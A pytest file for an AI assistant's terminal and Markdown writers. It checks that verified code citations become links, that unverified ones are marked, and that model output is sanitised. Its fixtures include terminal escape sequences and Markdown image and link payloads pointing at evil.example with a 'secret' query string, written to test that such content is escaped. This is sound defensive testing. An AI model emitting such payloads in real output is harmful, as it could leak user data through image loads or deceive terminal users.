"""A model's words on a terminal and in Markdown: links where they are true, nothing that takes effect elsewhere."""

from collections.abc import Iterable
from pathlib import Path

import pytest

from assistant.cli.console import Console
from assistant.cli.streamed import MarkdownWriter, TextWriter, Writer, harmless
from assistant.conversation import Event
from assistant.conversation.events import (
    FlaggedIdentifier,
    FlaggedQuotation,
    Text,
    TrueCitation,
    UntrueCitation,
)

ROOT = Path("/repo")


def true(text: str, path: str = "src/a.py", start: int = 1, end: int = 9) -> TrueCitation:
    return TrueCitation(text, ROOT, path, start, end)


def written(writer: Writer, events: Iterable[Event], capsys: pytest.CaptureFixture[str]) -> str:
    for event in events:
        writer.take(event)
    writer.end()
    return capsys.readouterr().out


def as_text(events: Iterable[Event], capsys: pytest.CaptureFixture[str], here: Path = ROOT) -> str:
    return written(TextWriter(Console(False, 80), here), events, capsys)


def as_markdown(events: Iterable[Event], capsys: pytest.CaptureFixture[str]) -> str:
    return written(MarkdownWriter(several=False), events, capsys)


@pytest.mark.parametrize(
    ("event", "text", "markdown"),
    [
        (true("[a.py:1-9]"), "[src/a.py:1-9]", "[src/a.py:1-9](src/a.py#L1-L9)"),
        (true("a.py:1", end=1), "src/a.py:1", "[src/a.py:1](src/a.py#L1)"),
        (true("[the pool](a.py#L1)"), "the pool [src/a.py:1-9]", "[src/a.py:1-9](src/a.py#L1-L9)"),
        (true("[a]", "my dir/a_b.py"), "[my dir/a_b.py:1-9]", "[my dir/a\\_b.py:1-9](my%20dir/a_b.py#L1-L9)"),
        (
            UntrueCitation("[b.py:7]", "no such file"),
            "[b.py:7 ✗ no such file]",
            "[b.py:7 ✗ no such file]",
        ),
        (
            UntrueCitation("b.py:7", "no such file", "did you mean src/b.py?"),
            "b.py:7 ✗ no such file; did you mean src/b.py?",
            "b.py:7 ✗ no such file; did you mean src/b.py?",
        ),
        (
            FlaggedIdentifier("`nope_x`", "nope_x"),
            "`nope_x` (✗ not in this repository)",
            "`nope_x` (✗ not in this repository)",
        ),
    ],
)
def test_what_is_true_is_a_place_and_what_is_not_is_marked(
    event: Event, text: str, markdown: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert as_text([Text("See "), event, Text(".")], capsys) == f"See {text}.\n"
    assert as_markdown([Text("See "), event, Text(".")], capsys) == f"See {markdown}.\n"


def test_an_untrue_citation_is_never_a_link_in_markdown(capsys: pytest.CaptureFixture[str]) -> None:
    event = UntrueCitation("[x](src/a.py#L900)", "only 9 lines")
    out = as_markdown([event, UntrueCitation("[a](b)](c)", "no [such](file)")], capsys)
    assert "](" not in out.replace("\\]", "").replace("\\[", "[") or "](src" not in out
    assert "(src/a.py#L900)" not in out


def test_paths_open_from_the_current_folder(capsys: pytest.CaptureFixture[str]) -> None:
    assert as_text([true("[a.py:1-9]")], capsys, ROOT / "src") == "[a.py:1-9]\n"


def test_an_altered_quotation_is_told_below_it(capsys: pytest.CaptureFixture[str]) -> None:
    events: list[Event] = [Text("```\nx = 1\n```"), FlaggedQuotation("src/a.py", "x = 1"), Text("\nend")]
    assert (
        as_text(events, capsys)
        == "```\nx = 1\n```\n✗ the code above differs from the file src/a.py: x = 1\n\nend\n"
    )
    assert "✗ the code above differs from the file" in as_markdown(events, capsys)


@pytest.mark.parametrize(
    "escape", ["\x1b[31m", "\x1b]8;;https://evil.example\x07", "\x9b2J", "\r", "\x08", "\u202e"]
)
def test_no_escape_sequence_reaches_the_terminal(escape: str, capsys: pytest.CaptureFixture[str]) -> None:
    events: list[Event] = [
        Text(f"a{escape}b\n"),
        UntrueCitation(f"[x{escape}.py:1]", f"no{escape}", escape),
        FlaggedIdentifier(f"`f{escape}`", "f", hint=escape),
        true("[a]", f"a{escape}.py"),
        FlaggedQuotation(f"a{escape}.py", escape),
    ]
    for shown in (as_text(events, capsys), as_markdown(events, capsys)):
        assert not set(escape) - set("[]31m8;https://evil.example2J") & set(shown)


def test_pieces_are_written_as_they_come(capsys: pytest.CaptureFixture[str]) -> None:
    writer = TextWriter(Console(False, 80), ROOT)
    writer.take(Text("half a sen"))
    assert capsys.readouterr().out == "half a sen"


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("![x](https://evil.example/?q=secret)", "\\![x\\](https://evil.example/?q=secret)"),
        ("[docs](https://evil.example)", "[docs\\](https://evil.example)"),
        ("[docs](", "[docs\\]("),
        ('<img src="https://evil.example/x.png">', '\\<img src="https://evil.example/x.png">'),
        ("<!-- hidden", "\\<!-- hidden"),
        ("[x]: https://evil.example", "\\[x]: https://evil.example"),
        ("> - [x]: https://evil.example", "> - \\[x]: https://evil.example"),
        ("see <https://host.example/a>", "see <https://host.example/a>"),
        ("`a[0](x)` and `List<int>`", "`a[0]\\(x)` and `List<int>`"),
        ("` ![x](https://evil.example) `", "` !\\[x]\\(https://evil.example) `"),
        ("`<img src=x>`", "`\\<img src=x>`"),
        ("a < b and c[0] (d)", "a < b and c[0] (d)"),
        ("plain `code` text", "plain `code` text"),
    ],
)
def test_links_and_images_to_elsewhere_are_written_out(line: str, expected: str) -> None:
    assert harmless(line) == expected


def test_a_link_in_pieces_is_found_and_code_is_left_alone(capsys: pytest.CaptureFixture[str]) -> None:
    pieces = [Text("![x"), Text("]"), Text("(https://evil.example)\n```html\n<img src=x>\n```\n<b>")]
    assert as_markdown(pieces, capsys) == "\\![x\\](https://evil.example)\n```html\n<img src=x>\n```\n\\<b>\n"


def test_a_fence_that_belongs_to_a_list_does_not_shield_what_follows_it(
    capsys: pytest.CaptureFixture[str],
) -> None:
    out = as_markdown([Text("- a\n  ```\n![x](https://evil.example)\n")], capsys)
    assert out == "- a\n  ```\n\\![x\\](https://evil.example)\n"


def test_an_answer_cannot_forge_a_link_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
    assert as_markdown([Text("\ue000"), true("[a.py:1-9]")], capsys) == "[src/a.py:1-9](src/a.py#L1-L9)\n"
